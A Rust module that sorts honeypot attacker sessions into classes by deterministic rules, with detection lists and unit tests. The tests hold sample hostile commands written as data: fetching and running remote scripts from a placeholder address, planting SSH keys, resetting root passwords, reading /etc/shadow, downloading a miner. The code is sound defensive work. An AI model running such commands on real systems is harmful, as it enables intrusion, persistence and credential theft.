//! The weak-label rules R1–R8: a session's class from its input, deterministically.
//!
//! The rules are the ones that label the training data (`data/README.md`, "Labels"): the first
//! rule that fires wins. They look only at what the attacker typed and when; nothing here does
//! I/O, and nothing panics on attacker input.

use std::collections::HashMap;

use super::commands::{Stage, split};

/// What kind of attacker a session is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Class {
    /// R1: a Mirai-style IoT bot probing the device.
    IotBotnetProbe,
    /// R2: plants an SSH key to come back.
    SshKeyPersistence,
    /// R3: installs or kills crypto-miners.
    Cryptominer,
    /// R4: a person typing.
    InteractiveHuman,
    /// R5: fetches or uploads a payload.
    MalwareDropper,
    /// R6: changes a password.
    CredentialHijack,
    /// R7: only looks around.
    ReconFingerprint,
    /// R8: none of the above.
    Other,
}

impl Class {
    /// The class's name as the data and the events spell it (`malware_dropper`).
    pub fn as_str(self) -> &'static str {
        match self {
            Class::IotBotnetProbe => "iot_botnet_probe",
            Class::SshKeyPersistence => "ssh_key_persistence",
            Class::Cryptominer => "cryptominer",
            Class::InteractiveHuman => "interactive_human",
            Class::MalwareDropper => "malware_dropper",
            Class::CredentialHijack => "credential_hijack",
            Class::ReconFingerprint => "recon_fingerprint",
            Class::Other => "other",
        }
    }

    /// The rule that gives this class (`R1` … `R8`).
    pub fn rule(self) -> &'static str {
        match self {
            Class::IotBotnetProbe => "R1",
            Class::SshKeyPersistence => "R2",
            Class::Cryptominer => "R3",
            Class::InteractiveHuman => "R4",
            Class::MalwareDropper => "R5",
            Class::CredentialHijack => "R6",
            Class::ReconFingerprint => "R7",
            Class::Other => "R8",
        }
    }
}

/// A session's label: its class and the rule that gave it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Label {
    /// The class.
    pub class: Class,
    /// The rule that fired (`R1` … `R8`).
    pub rule: &'static str,
}

impl From<Class> for Label {
    fn from(class: Class) -> Label {
        Label {
            class,
            rule: class.rule(),
        }
    }
}

/// The label of a session from its input lines, each with its time in seconds since the
/// session started (`None` when unknown). The first rule that fires wins.
pub fn label(lines: &[(Option<f64>, &str)]) -> Label {
    let mut labeller = Labeller::default();
    for (at, line) in lines {
        labeller.push(*at, line);
    }
    labeller.label()
}

/// A session's input taken line by line, each line split once, so a live session can be
/// labelled again after every line without splitting what it typed before.
#[derive(Debug, Clone, Default)]
pub struct Labeller {
    session: Session,
    /// Each line's time in seconds since the session started (`None` when unknown).
    times: Vec<Option<f64>>,
}

impl Labeller {
    /// Takes the next input line, typed `at` seconds after the session started.
    pub fn push(&mut self, at: Option<f64>, line: &str) {
        self.times.push(at);
        self.session.push(line);
    }

    /// The label of the input so far: the first rule that fires wins.
    pub fn label(&self) -> Label {
        let session = &self.session;
        let class = if session.iot_probe() {
            Class::IotBotnetProbe
        } else if session.ssh_key() {
            Class::SshKeyPersistence
        } else if session.miner() {
            Class::Cryptominer
        } else if session.human(&self.times) {
            Class::InteractiveHuman
        } else if session.dropper() {
            Class::MalwareDropper
        } else if session.password_change() {
            Class::CredentialHijack
        } else if session.recon_only() {
            Class::ReconFingerprint
        } else {
            Class::Other
        };
        class.into()
    }
}

/// Programs that only look around or tidy up (R7).
/// Fixed texts of R1's Mirai-style probes and router CLIs (besides `busybox KEY` and the
/// enable/system/shell/sh units).
pub(crate) const IOT_MARKERS: [&str; 8] = [
    "cat /proc/mounts",
    "dd bs=52 count=1",
    ".nippon",
    "/gweerwe323f",
    "/ip cloud print",
    "show ip",
    "flash set",
    "nvram set",
];

pub(crate) const DISCOVERY: &[&str] = &[
    "uname",
    "cat",
    "free",
    "lscpu",
    "w",
    "top",
    "ps",
    "ls",
    "crontab",
    "ifconfig",
    "uptime",
    "echo",
    "grep",
    "awk",
    "history",
    "export",
    "unset",
    "touch",
    "iptables",
    "head",
    "tail",
    "wc",
    "sort",
    "uniq",
    "which",
    "whoami",
    "id",
    "hostname",
    "nproc",
    "df",
    "env",
    "cut",
    "tr",
    "sed",
    "ip",
    "netstat",
    "who",
    "last",
    "lspci",
    "dmidecode",
    "cd",
    "pwd",
    "rm",
    "exit",
    "clear",
    "getconf",
    "arch",
    "lsb_release",
    "hostnamectl",
    "printf",
    "locate",
    "find",
    "ulimit",
    "sleep",
    "kill",
    "pkill",
    "killall",
    "dmesg",
    "date",
    "stat",
    "type",
    "mkdir",
    "true",
    "unalias",
    "logout",
    "bash",
    "sh",
    "du",
    "lsblk",
    "users",
    "mount",
    "set",
    "python",
    "python3",
    "perl",
    "help",
];

/// Programs people use to find their way around (R4).
pub(crate) const CONSOLE: &[&str] = &[
    "ls", "cd", "pwd", "exit", "clear", "vi", "vim", "nano", "apt-get", "apt", "yum", "htop",
    "man", "less", "more", "logout", "history", "su", "sudo", "passwd",
];

/// Mentions of crypto-miners (R3), lowercase.
pub(crate) const MINERS: &[&str] = &[
    "xmrig",
    "minerd",
    "miner",
    "stratum+tcp",
    "cryptonight",
    "monero",
    "nicehash",
    "c3pool",
    "moneroocean",
    "kdevtmpfsi",
    "kinsing",
    "cpuminer",
];

/// Fragments of the bots' scripted templates (the fingerprinting, history-wiping and
/// Outlaw recon campaigns): a session holding one is not a person typing (R4), however its
/// timing looks.
pub(crate) const TEMPLATES: &[&str] = &[
    "python -V",
    "iptables -L -n",
    "/lib/libdl.so",
    "unset HISTORY",
    "HISTFILE=/dev/null",
    "grep name | wc -l",
    "/var/tmp/dota",
    "/var/tmp/.var0",
];

/// One session's input, split once for all the rules.
#[derive(Debug, Clone, Default)]
struct Session {
    /// The whole input, lines joined by newlines.
    text: String,
    /// Every pipeline stage, in order, with the index of its command.
    stages: Vec<(usize, Stage)>,
    /// How many commands the input held so far.
    commands: usize,
}

impl Session {
    fn push(&mut self, line: &str) {
        self.text.push_str(line);
        self.text.push('\n');
        for c in split(line) {
            // `echo "cd /tmp; wget …" | sh`: the echoed script runs too.
            let piped_script = c.stages.windows(2).find_map(|pair| {
                (matches!(pair[0].program(), "echo" | "printf")
                    && matches!(pair[1].program(), "sh" | "bash"))
                .then(|| pair[0].args().join(" "))
            });
            let command = self.commands;
            self.stages
                .extend(c.stages.into_iter().map(|s| (command, s)));
            self.commands += 1;
            for inner in piped_script.as_deref().map(split).unwrap_or_default() {
                let command = self.commands;
                self.stages
                    .extend(inner.stages.into_iter().map(|s| (command, s)));
                self.commands += 1;
            }
        }
    }

    fn programs(&self) -> impl Iterator<Item = &str> {
        self.stages.iter().map(|(_, s)| s.program())
    }

    /// R1.
    fn iot_probe(&self) -> bool {
        let t = &self.text;
        IOT_MARKERS.iter().any(|f| t.contains(f))
            || busybox_key(t)
            || ["enable", "system", "shell", "sh"]
                .iter()
                .all(|unit| self.stages.iter().any(|(_, s)| s.text() == *unit))
    }

    /// R2.
    fn ssh_key(&self) -> bool {
        self.text.contains("mdrfckr")
            || self.stages.iter().any(|(_, s)| {
                s.text().contains("authorized_keys")
                    && (s.text().contains('>')
                        || matches!(s.program(), "tee" | "cp" | "mv" | "chattr" | "scp"))
            })
    }

    /// R3.
    fn miner(&self) -> bool {
        let lower = self.text.to_lowercase();
        MINERS.iter().any(|m| lower.contains(m))
    }

    /// R4: timing that looks like typing, and a person's choice of programs.
    fn human(&self, times: &[Option<f64>]) -> bool {
        let Some(times) = times.iter().copied().collect::<Option<Vec<f64>>>() else {
            return false;
        };
        if times.len() < 3 || TEMPLATES.iter().any(|t| self.text.contains(t)) {
            return false;
        }
        let mut gaps: Vec<f64> = times.windows(2).map(|w| (w[1] - w[0]).max(0.0)).collect();
        gaps.sort_by(f64::total_cmp);
        let median = match gaps.len() {
            0 => return false,
            n if n % 2 == 1 => gaps[n / 2],
            n => (gaps[n / 2 - 1] + gaps[n / 2]) / 2.0,
        };
        let longest = gaps.last().copied().unwrap_or(0.0);
        let mean = gaps.iter().sum::<f64>() / gaps.len() as f64;
        let variance = gaps.iter().map(|g| (g - mean).powi(2)).sum::<f64>() / gaps.len() as f64;
        if median < 1.0 || longest < 3.0 || mean <= 0.0 || variance.sqrt() / mean < 0.3 {
            return false;
        }
        let mut distinct: Vec<&str> = self.programs().filter(|p| !p.is_empty()).collect();
        distinct.sort_unstable();
        distinct.dedup();
        if distinct.len() < 3 {
            return false;
        }
        let console = distinct.iter().any(|p| CONSOLE.contains(p));
        // A program typed again with other arguments.
        let mut first_seen: HashMap<&str, &str> = HashMap::new();
        let retyped = self.stages.iter().any(|(_, s)| {
            let text = first_seen.entry(s.program()).or_insert(s.text());
            *text != s.text()
        });
        console || retyped
    }

    /// R5.
    fn dropper(&self) -> bool {
        self.text.contains("scp -t")
            || self.stages.iter().any(|(_, s)| {
                let args = s.args();
                match s.program() {
                    "wget" | "curl" | "tftp" | "ftpget" | "sget" => true,
                    // `cat > file`, `cat >file`: stdin into a file.
                    "cat" => args.first().is_some_and(|a| a.starts_with('>')),
                    // `perl file`, not `perl -e '…'`.
                    "perl" => args.first().is_some_and(|a| !a.starts_with('-')),
                    _ => false,
                }
            })
    }

    /// R6.
    fn password_change(&self) -> bool {
        let t = &self.text;
        [
            "chpasswd",
            "setuserpasswd",
            "DEF_SSH_PASSWORD",
            "http_passwd",
            "/etc/shadow",
        ]
        .iter()
        .any(|f| t.contains(f))
            || self.stages.iter().enumerate().any(|(i, (command, s))| {
                s.program() == "passwd"
                    && (!s.args().is_empty()
                        || (i > 0 && self.stages.get(i - 1).is_some_and(|(c, _)| c == command)))
            })
    }

    /// R7: only discovery and housekeeping.
    fn recon_only(&self) -> bool {
        // A bare assignment (`X=1`) runs no program: it counts as housekeeping.
        self.programs().any(|p| !p.is_empty())
            && self
                .programs()
                .all(|p| p.is_empty() || DISCOVERY.contains(&p))
    }
}

/// `busybox` followed by a word of 3 to 12 capital letters (Mirai's marker, `busybox ECCHI`).
pub(crate) fn busybox_key(text: &str) -> bool {
    text.match_indices("busybox ").any(|(at, found)| {
        let rest = text.get(at + found.len()..).unwrap_or_default();
        let key: String = rest.chars().take_while(char::is_ascii_uppercase).collect();
        let next = rest.chars().nth(key.len());
        (3..=12).contains(&key.len()) && !next.is_some_and(|c| c.is_ascii_alphanumeric())
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A session of lines without times.
    fn untimed(lines: &[&str]) -> Label {
        let lines: Vec<_> = lines.iter().map(|l| (None, *l)).collect();
        label(&lines)
    }

    fn timed(lines: &[(f64, &str)]) -> Label {
        let lines: Vec<_> = lines.iter().map(|(t, l)| (Some(*t), *l)).collect();
        label(&lines)
    }

    fn class(label: Label) -> (&'static str, &'static str) {
        (label.class.as_str(), label.rule)
    }

    #[test]
    fn r1_mirai_probes_and_router_clis_are_iot_botnet_probes() {
        for session in [
            vec!["enable", "system", "shell", "sh", "/bin/busybox ECCHI"],
            vec!["cd /tmp; echo -e '\\x41' > /tmp/.nippon; cat /tmp/.nippon; rm -f /tmp/.nippon"],
            vec!["cat /proc/mounts; /bin/busybox wget"],
            vec!["dd bs=52 count=1 if=/bin/ls || cat /bin/ls"],
            vec!["enable", "system", "shell", "sh"],
            vec!["/ip cloud print"],
            vec!["nvram set http_passwd=x"],
        ] {
            assert_eq!(
                class(untimed(&session)),
                ("iot_botnet_probe", "R1"),
                "{session:?}"
            );
        }
        // A lowercase applet is not Mirai's marker; `busybox ECCHIXXXXXXXXX` is too long.
        assert_ne!(untimed(&["busybox wget"]).class, Class::IotBotnetProbe);
        assert_ne!(
            untimed(&["busybox ABCDEFGHIJKLMN"]).class,
            Class::IotBotnetProbe
        );
    }

    #[test]
    fn r2_an_implanted_key_is_persistence_even_with_a_password_change() {
        let session = [
            "echo root:Xy12|chpasswd",
            "rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3 rsa-key-20230101\" >> .ssh/authorized_keys",
        ];
        assert_eq!(class(untimed(&session)), ("ssh_key_persistence", "R2"));
        assert_eq!(untimed(&["echo mdrfckr"]).class, Class::SshKeyPersistence);
        // Reading the file is not writing it.
        assert_eq!(
            untimed(&["cat ~/.ssh/authorized_keys"]).class,
            Class::ReconFingerprint
        );
    }

    #[test]
    fn r3_a_miner_anywhere_is_a_cryptominer() {
        let session = ["cd /tmp; wget http://198.51.100.9/XMRig.tar.gz; tar xf XMRig.tar.gz"];
        assert_eq!(class(untimed(&session)), ("cryptominer", "R3"));
        assert_eq!(untimed(&["pkill -9 kinsing"]).class, Class::Cryptominer);
    }

    #[test]
    fn r4_uneven_typing_with_navigation_is_a_person() {
        let session = [
            (3.0, "ls"),
            (9.5, "cd /home"),
            (11.0, "ls -la"),
            (25.0, "cat notes.txt"),
            (27.5, "wget http://198.51.100.9/tool"),
        ];
        assert_eq!(class(timed(&session)), ("interactive_human", "R4"));
        // The same lines without times, or typed by a script at an even pace, are not.
        let lines: Vec<&str> = session.iter().map(|(_, l)| *l).collect();
        assert_eq!(untimed(&lines).class, Class::MalwareDropper);
        let even: Vec<(f64, &str)> = lines
            .iter()
            .enumerate()
            .map(|(i, l)| (i as f64 * 4.0, *l))
            .collect();
        assert_eq!(timed(&even).class, Class::MalwareDropper);
        // Nor is a known bot template, whatever its timing.
        let bot = [
            (1.0, "/sbin/ifconfig"),
            (2.0, "cat /proc/meminfo"),
            (6.0, "cat /proc/version"),
            (7.5, "uptime"),
            (12.0, "(python -V 2>/dev/null && echo python)"),
        ];
        assert_eq!(timed(&bot).class, Class::ReconFingerprint);
    }

    #[test]
    fn r5_fetching_or_pushing_a_file_is_a_dropper() {
        for session in [
            vec![
                "cd /tmp || cd /var/run; wget http://198.51.100.9/bins.sh; chmod 777 bins.sh; sh bins.sh",
            ],
            vec!["tftp 198.51.100.9 -c get t.sh"],
            vec!["cat > /tmp/.xs/daemon.i686.mod"],
            vec!["scp -t /tmp/"],
            vec!["perl /tmp/bot.pl"],
            vec!["echo \"cd /tmp ; curl -O http://198.51.100.9/c.sh\" | sh"],
            vec!["echo -e 'x\\ny\\ny' | passwd; wget http://198.51.100.9/a"],
        ] {
            assert_eq!(
                class(untimed(&session)),
                ("malware_dropper", "R5"),
                "{session:?}"
            );
        }
        assert_ne!(untimed(&["perl -e 'print 1'"]).class, Class::MalwareDropper);
    }

    #[test]
    fn r6_changing_a_password_is_credential_hijack() {
        for session in [
            vec![
                "cat /proc/cpuinfo | grep name | wc -l",
                "echo -e \"old\\nNewPass1\\nNewPass1\" | passwd | bash",
            ],
            vec!["echo 'root:NewPass1' | chpasswd"],
            vec!["passwd admin"],
            vec!["cat /etc/shadow"],
        ] {
            assert_eq!(
                class(untimed(&session)),
                ("credential_hijack", "R6"),
                "{session:?}"
            );
        }
        // A bare `passwd` prompt with nothing fed to it changes nothing.
        assert_eq!(untimed(&["passwd"]).class, Class::Other);
    }

    #[test]
    fn r7_and_r8_looking_around_is_recon_anything_else_is_other() {
        let recon = [
            "uname -a; cat /proc/cpuinfo | grep model",
            "free -m | grep Mem | awk '{print $2}'",
            "2>/dev/null ls -lh $(which ls); crontab -l; w",
        ];
        assert_eq!(class(untimed(&recon)), ("recon_fingerprint", "R7"));
        assert_eq!(class(untimed(&["uname", "gcc x.c"])), ("other", "R8"));
        assert_eq!(class(untimed(&[])), ("other", "R8"));
    }

    #[test]
    fn attacker_input_never_panics() {
        let long = "a|".repeat(10_000);
        for line in [
            "\\",
            "'\"",
            "$(((",
            ")))",
            "busybox ",
            "busybox ÉÉÉ",
            long.as_str(),
        ] {
            let _ = label(&[(Some(f64::NAN), line), (Some(-1.0), line), (None, line)]);
            let _ = label(&[(Some(f64::INFINITY), line); 4]);
        }
    }
}
